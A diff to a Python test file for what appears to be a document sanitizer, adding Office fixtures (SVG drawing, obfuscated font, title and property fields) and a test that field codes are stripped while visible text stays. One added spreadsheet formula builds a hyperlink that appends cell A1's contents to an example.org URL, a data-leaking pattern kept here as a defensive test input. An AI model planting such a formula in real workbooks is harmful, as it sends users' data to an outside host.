@@ -21,10 +21,10 @@ from openpyxl.worksheet.worksheet import Worksheet
 from pypdf import PdfReader
 
 from tasks.documents.papers import taken_paper
-from tests.tasks.documents.hostile_fields import field
+from tests.tasks.documents.hostile_fields import field, simple
 from tests.tasks.documents.hostile_pdfs import form, link, pdf, uri
 from tests.tasks.documents.hostile_sheets import SHEET, book, formula
-from tests.tasks.documents.hostile_word import DOCUMENT, SETTINGS, R, having, linked, template, word
+from tests.tasks.documents.hostile_word import DOCUMENT, SETTINGS, R, drawing, having, linked, template, word
 from tests.tasks.documents.office_parts import MICROSOFT, PNG, a_presentation, related, replaced
 
 WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
@@ -81,6 +81,7 @@ def rules(sheet: Worksheet) -> None:
 
 
 def links(sheet: Worksheet) -> None:
+    sheet["D3"] = '=HYPERLINK("https://www.example.org/"&A1,"Data: C:")&HYPERLINK(A1)'
     sheet["D1"].hyperlink = "https://www.example.org/"
     sheet["D2"] = '=HYPERLINK("#Sheet!A1","up")&HYPERLINK("https://www.example.org","out")'
 
@@ -122,6 +123,19 @@ ORDINARY: Mapping[str, Callable[[], bytes]] = {
     ),
     "properties of a document library": lambda: related(
         word(), DOCUMENT, "customXml", "../customXml/item1.xml", part=b"<x/>", content_type="application/xml"
+    ),
+    "a drawing with a document type": lambda: drawing(
+        b'<style>.a { fill: url(#shade); font-family: "A"; }</style><path class="a" d="M0 0" '
+        b'style="fill:url(#shade)"/>',
+        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
+    ),
+    "a font whose first byte is that of XML": lambda: related(
+        word(),
+        "word/fontTable.xml",
+        "font",
+        "fonts/font1.odttf",
+        part=b"<\x93\x01\x7f" + bytes(range(256)),
+        content_type="application/vnd.openxmlformats-officedocument.obfuscatedFont",
     ),
     "figures": book,
     "formulas": lambda: formula("SUM(A1:A2)*IF(A1=&quot;a|b&quot;,1,'x|y'!A1)"),
@@ -192,6 +206,31 @@ def words(content: bytes) -> list[str]:
                     elif kind == "Relationship" and node.get("Type", "").endswith(("/hyperlink", "/image")):
                         found.append(str(node.get("Target")))
     return found
+
+
+PROPERTY = (
+    b'<w:sdt><w:sdtPr><w:dataBinding w:xpath="/ns0:coreProperties[1]/ns1:title[1]" '
+    b'w:storeItemID="{6C3C8BC8-F283-45AE-878A-BAB7291924A1}"/><w:text/></w:sdtPr><w:sdtContent><w:p><w:r>'
+    b"<w:t>The title</w:t></w:r></w:p></w:sdtContent></w:sdt>"
+)
+SHOWN: Mapping[str, Callable[[], bytes]] = {
+    "a control of the title": lambda: having(PROPERTY),
+    "the title": lambda: field(" TITLE  \\* MERGEFORMAT ", shown="The title"),
+    "the title in a header": lambda: field(" TITLE ", shown="The title", part="word/header1.xml"),
+    "the title in a simple field": lambda: simple(" TITLE ", "The title"),
+    "a property of its own": lambda: field(" DOCPROPERTY Title ", shown="The title"),
+    "a variable": lambda: field(" DOCVARIABLE Title ", shown="The title"),
+}
+
+
+@pytest.mark.parametrize("name", SHOWN)
+def test_what_a_paper_shows_of_its_properties_stays_when_these_go(name: str) -> None:
+    taken = taken_paper(SHOWN[name]())
+    assert taken.remarks == frozenset()
+    with zipfile.ZipFile(io.BytesIO(taken.content)) as parts:
+        xml = b"".join(parts.read(part) for part in parts.namelist())
+    assert b"<w:t>The title</w:t>" in xml
+    assert not re.search(rb"TITLE|DOCPROPERTY|DOCVARIABLE|dataBinding", xml)
 
 
 def test_a_workbook_opens_with_the_values_that_a_link_had_brought() -> None:
